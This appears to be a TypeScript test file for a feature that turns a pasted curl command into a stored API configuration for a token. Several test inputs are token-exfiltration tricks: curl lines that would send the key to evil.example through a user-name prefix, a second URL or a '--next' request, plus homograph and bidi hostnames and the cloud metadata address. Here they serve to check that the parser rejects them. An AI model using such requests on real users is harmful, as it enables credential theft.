import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { CATALOGUE, PROVIDERS } from '../../tests/support/catalogue';
import { tokensOf } from '../../tests/support/paste-table';
import documents from '../../tests/vectors/pending/documents.json' with { type: 'json' };
import field from '../../tests/vectors/pending/field.json' with { type: 'json' };
import kinds from '../../tests/vectors/pending/kinds.json' with { type: 'json' };
import DESCRIBED from '../../tests/vectors/pending/own-api.json' with { type: 'json' };
import TOOL_PASTES from '../../tests/vectors/pending/tools.json' with { type: 'json' };
import { judgeOwnProvider } from '../providers/judge-own-provider';
import { lookAlikeName } from '../providers/look-alike';
import { type PastedApi, proposedApi } from './own-from-paste';
import { readPaste } from './read-paste';
import type { FoundToken } from './reading';

const T = 'pak_9Zx4WqL1vM7yB2nC5tR8dE3g';
const SECOND = 'a8f7d6e5c4b3a2918070605040302010';
const ORIGINS = PROVIDERS.list.flatMap(({ hosts }) => hosts.map(({ origin }) => origin));

/** The token of a paste, also one that is taken all the same, with the API that the paste describes. */
function proposals(paste: string, tab: string | null = null): readonly (PastedApi | null)[] {
  const reading = readPaste(paste, tab, CATALOGUE);
  const anyway = reading.seen.flatMap((one): FoundToken[] => (one.anyway === null ? [] : [one.anyway]));
  return [...tokensOf(reading), ...anyway].map((found) => proposedApi(found, reading, PROVIDERS));
}

const only = (paste: string): PastedApi | null => proposals(paste)[0] ?? null;
const shape = (api: PastedApi | null) =>
  api && {
    name: api.input.name,
    origins: api.input.origins,
    headers: api.input.headers.map(({ name, template }) => `${name}: ${template}`),
    check: api.input.check && `${api.input.check.method} ${api.input.check.path}`,
    asks: api.asks,
  };

// Proves P4: A paste describes an unknown API only where its address is sure.
describe('a paste that says where and how a token goes describes the API', () => {
  it.each(DESCRIBED)('$what', ({ what: _what, paste, ...expected }) => {
    expect(shape(only(paste))).toEqual(expected);
  });

  it.each([
    ['a tab of a known provider', 'https://docs.usepylon.com', ['host']],
    ['a tab of nobody', 'https://docs.acme.example', []],
  ])('with %s open it is the API of the paste all the same', (_what, tab, asks) => {
    const [api] = proposals(`curl https://api.acme.example/v1/me -H 'Authorization: Bearer ${T}'`, tab);
    expect(api).toMatchObject({ asks, input: { origins: ['https://api.acme.example'] } });
  });

  it('and asks about the host where the variable is called after a known provider', () => {
    const [api] = proposals(
      `PYLON_API_KEY=${T}\ncurl https://api.acme.example/v1/me -H "Authorization: Bearer $PYLON_API_KEY"`,
    );
    expect(api?.asks ?? ['host']).toContain('host');
  });

  it('with Basic as a field and a password, whose name is no part of the form', () => {
    const api = only(`curl -u ada:${T} https://api.acme.example/v1/me`);
    expect(api).toMatchObject({
      input: {
        headers: [{ name: 'Authorization', template: '{user}:{token}', encoding: 'basic' }],
        fields: [{ name: 'user', label: 'User name', secret: false, pattern: null }],
      },
      fields: { user: 'ada' },
    });
    const alone = only(`curl -u ${T}: https://api.acme.example/v1/me`);
    expect(alone).toMatchObject({ input: { headers: [{ template: '{token}:' }], fields: [] }, fields: {} });
  });

  it('with a name and a password beside the token', () => {
    const api = only(`curl -u ada:${SECOND} https://api.acme.example/v1/me -H 'X-Api-Key: ${T}'`);
    expect(api).toMatchObject({
      input: {
        headers: [
          { name: 'X-Api-Key', template: '{token}', encoding: 'plain' },
          { name: 'Authorization', template: '{user}:{password}', encoding: 'basic' },
        ],
        fields: [
          { name: 'user', secret: false },
          { name: 'password', secret: true },
        ],
      },
      fields: { user: 'ada', password: SECOND },
    });
  });

  it('with other secret headers as fields, and the token in one header only', () => {
    const api = only(
      `curl https://api.acme.example/v1/me -H 'Authorization: Bearer ${T}' -H 'X-Api-Key: ${SECOND}' -H 'X-App-Id: 1a2b3c4d5e' -H 'X-Tenant: 42' -H 'X-Trace-Id: 8f7d6e5c4b3a2910'`,
    );
    expect(api?.input.headers.map(({ name, template }) => `${name}: ${template}`)).toEqual([
      'Authorization: Bearer {token}',
      'X-Api-Key: {apikey}',
      'X-App-Id: {appid}',
    ]);
    expect(api?.input.fields.every(({ secret }) => secret)).toBe(true);
    expect(api?.fields).toEqual({ apikey: SECOND, appid: '1a2b3c4d5e' });
    expect(JSON.stringify(api?.input)).not.toContain(SECOND);
  });

  it('with extra headers of the allowed kinds only', () => {
    const api = only(
      `curl https://api.acme.example/v1/me -H 'X-Api-Key: ${T}' -H 'Acme-Version: 2026-01-01' -H 'X-Tenant: 42' -H 'Accept: application/vnd.acme+json'`,
    );
    expect(api?.input.companions.map(({ name }) => name)).toEqual(['Acme-Version', 'Accept']);
  });

  it('for chosen tabs, unless the host is named as an API', () => {
    const sharing = (host: string) =>
      only(`curl https://${host}/me -H 'X-Api-Key: ${T}'`)?.input.sharedWithApp;
    expect(['api.acme.example', 'eu.api.acme.example', 'rest-eu.acme.example'].map(sharing)).toEqual([
      false,
      false,
      false,
    ]);
    expect(['acme.example', 'www.acme.example', 'api.example', 'rapid.acme.example'].map(sharing)).toEqual([
      true,
      true,
      true,
      true,
    ]);
  });
});

// Proves P3: No address of a paste alone makes a token go without encryption.
describe('without encryption', () => {
  it.each([
    ['http://localhost:3000/api/me', 'http://localhost:3000'],
    ['localhost:3000/api/me', 'http://localhost:3000'],
    ['http://127.1:8080/me', 'http://127.0.0.1:8080'],
    ['http://192.168.1.10/me', 'http://192.168.1.10'],
    ['http://nas.local/me', 'http://nas.local'],
    ['http://intranet/me', 'http://intranet'],
    ['http://api.acme.example/me', 'https://api.acme.example'],
    ['http://8.8.8.8/me', 'https://8.8.8.8'],
    ['http://172.32.0.1/me', 'https://172.32.0.1'],
    ['http://foo.localhost/me', 'https://foo.localhost'],
  ])('%s is asked about, as %s', (address, origin) => {
    expect(only(`curl '${address}' -H 'X-Api-Key: ${T}'`)).toMatchObject({
      input: { origins: [origin] },
      asks: ['http'],
    });
  });

  it.each([
    'http://0.0.0.0:3000/me',
    'http://169.254.169.254/latest',
    'http://[::ffff:10.0.0.1]/me',
    'http://0/me',
  ])('%s describes nothing', (address) => {
    expect(only(`curl '${address}' -H 'X-Api-Key: ${T}'`)).toBeNull();
  });

  it('a top-level domain is no machine of the own network: what it describes can’t be saved', () => {
    const input = only(`curl http://ai/me -H 'X-Api-Key: ${T}'`)?.input;
    expect(input && judgeOwnProvider(input, PROVIDERS)).toEqual([
      { code: 'shared-host', place: 'origin', index: 0 },
    ]);
  });
});

// Proves P4: An address that is not sure describes no API.
describe('nothing is described', () => {
  it.each([
    ['by a known API', `curl https://api.usepylon.com/me -H 'Authorization: Bearer ${T}'`],
    [
      'by a known host with another port',
      `curl https://api.usepylon.com:8443/me -H 'Authorization: Bearer ${T}'`,
    ],
    ['by a known host over http', `curl http://api.usepylon.com/me -H 'Authorization: Bearer ${T}'`],
    [
      'by a known host with a dot behind',
      `curl https://api.usepylon.com./me -H 'Authorization: Bearer ${T}'`,
    ],
    ['by the address of a page', `https://docs.acme.example/sign-in\n${T}`],
    ['by two addresses', `https://api.acme.example/v1\nhttps://api.other.example/v1\n${T}`],
    ['by no address', `X-Api-Key: ${T}`],
    ['by a user name', `curl https://api.usepylon.com@evil.example/me -H 'X-Api-Key: ${T}'`],
    ['by a user name of its own', `curl https://ada:pw@api.acme.example/me -H 'X-Api-Key: ${T}'`],
    ['by a Cyrillic letter', `curl https://api.usеpylon.com/me -H 'X-Api-Key: ${T}'`],
    ['by an invisible character', `curl https://api.ac\u200bme.example/me -H 'X-Api-Key: ${T}'`],
    ['by a bidi character', `curl https://api.\u202eacme.example/me -H 'X-Api-Key: ${T}'`],
    ['by a variable', `curl $API/me -H 'X-Api-Key: ${T}'`],
    ['by half a variable', `curl https://\${TENANT}.acme.example/me -H 'X-Api-Key: ${T}'`],
    ['by a wildcard', `curl 'https://*.acme.example/me' -H 'X-Api-Key: ${T}'`],
    ['by two hosts', `curl https://api.acme.example/me https://evil.example/x -H 'X-Api-Key: ${T}'`],
    ['by two ports', `curl https://api.acme.example/me https://api.acme.example:8443/x -H 'X-Api-Key: ${T}'`],
    [
      'by two requests',
      `curl https://api.acme.example/me -H 'X-Api-Key: ${T}' --next https://evil.example/x -H 'X-Api-Key: ${T}'`,
    ],
    ['by another Host', `curl https://10.0.0.1/me -H 'Host: api.acme.example' -H 'X-Api-Key: ${T}'`],
    ['by a key in the address', `curl 'https://api.acme.example/me?api_key=${T}'`],
    ['by a socket', `wscat -H 'X-Api-Key: ${T}' wss://api.acme.example/me`],
  ])('%s', (_, paste) => {
    expect(proposals(paste).filter((api) => api !== null)).toEqual([]);
  });

  it.each([
    'X-On-Behalf-Of',
    'x_real_ip',
    'Impersonate-User',
    'X-Original-Url',
    'Sudo',
    'X-Webhook-Url',
    'X-Method',
  ])('a token in %s is taken for none of that header', (header) => {
    const api = only(`curl https://api.acme.example/me -H '${header}: ${T}'`);
    expect(api === null || api.asks.includes('form')).toBe(true);
    expect(JSON.stringify(api?.input.headers ?? [])).not.toContain(header);
  });
});

describe('a request that a tool copied or stored', () => {
  const rows = TOOL_PASTES.filter(({ target, provider }) => target !== undefined && provider === null);
  it.each(rows)('$readFrom $what describes its API', ({ paste, header, target, method }) => {
    const api = only(paste);
    expect(shape(api)).toMatchObject({
      name: target === 'http://localhost:3000' ? 'localhost' : 'Acme',
      origins: [target],
      headers: [header],
      asks: target === 'http://localhost:3000' ? ['http'] : [],
      check: method === 'GET' ? expect.stringMatching(/^GET \/v1\/(?:me|items)$/) : null,
    });
  });
});

describe('whatever host a request goes to', () => {
  const LABEL = fc.stringMatching(/^[a-z0-9]{1,8}(?:-[a-z0-9]{1,8})?$/);
  const host = fc.oneof(
    fc.tuple(LABEL, LABEL).map(([one, other]) => `${one}.${other}.com`),
    fc.constantFrom(...ORIGINS).map((origin) => new URL(origin.replace(/\{[a-z][a-z0-9_]*\}/, 'acme')).host),
    fc
      .constantFrom(...ORIGINS)
      .map((origin) => `${new URL(origin.replace(/\{[a-z][a-z0-9_]*\}/, 'acme')).host}.evil.test`),
    fc.ipV4(),
  );
  const scheme = fc.constantFrom('https://', 'http://', '');

  it('only that host is proposed, with encryption or with a question, and no known name', () => {
    fc.assert(
      fc.property(scheme, host, (start, name) => {
        const api = only(`curl '${start}${name}/v1/me' -H 'X-Api-Key: ${T}'`);
        if (api === null) return;
        const [origin = ''] = api.input.origins;
        expect(api.input.origins).toHaveLength(1);
        expect(new URL(origin).hostname).toBe(new URL(`https://${name}`).hostname);
        expect(ORIGINS).not.toContain(origin);
        expect(origin.startsWith('https://') || api.asks.includes('http')).toBe(true);
        expect(lookAlikeName(api.input.name, CATALOGUE)).toBeNull();
        expect(JSON.stringify(api.input)).not.toContain(T);
        const tokens = api.input.headers.flatMap(({ template }) => template.match(/\{token\}/g) ?? []);
        expect(tokens).toHaveLength(1);
      }),
    );
  });
});

// Proves P4: The tab never decides for a token that the paste sends to an unknown API.
describe('the API of a paste is the one that its request goes to', () => {
  const rows = [...kinds, ...field, ...documents].map(({ paste }) => paste);

  it('in every row of the tables, whatever the tab shows', () => {
    const described = rows.flatMap((paste) => proposals(paste).map((api) => ({ paste, api })));
    const hosts = described.flatMap(({ paste, api }) =>
      (api?.input.origins ?? []).map((origin) => ({ paste, host: new URL(origin).host })),
    );
    expect(hosts.length).toBeGreaterThan(8);
    for (const { paste, host } of hosts) {
      expect(paste).toContain(host);
      expect(ORIGINS).not.toContain(`https://${host}`);
    }
  });
});
